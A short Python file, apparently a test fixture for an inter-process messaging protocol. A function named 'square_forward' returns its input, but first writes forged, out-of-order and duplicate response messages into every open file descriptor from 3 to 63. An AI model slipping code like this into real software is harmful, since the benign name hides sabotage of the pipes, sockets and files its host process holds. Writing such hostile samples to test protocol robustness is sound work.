"""Answers out of order: numbers of questions that were never asked, twice the same, and backwards."""
import os
import struct


def square_forward(x):
    for number in (200, 7, 7, 3, 0):
        body = bytes([0x94, 4, 0xCC, number, 0, 1])
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, struct.pack("<I", len(body)) + body)
            except OSError:
                continue
    return x, x
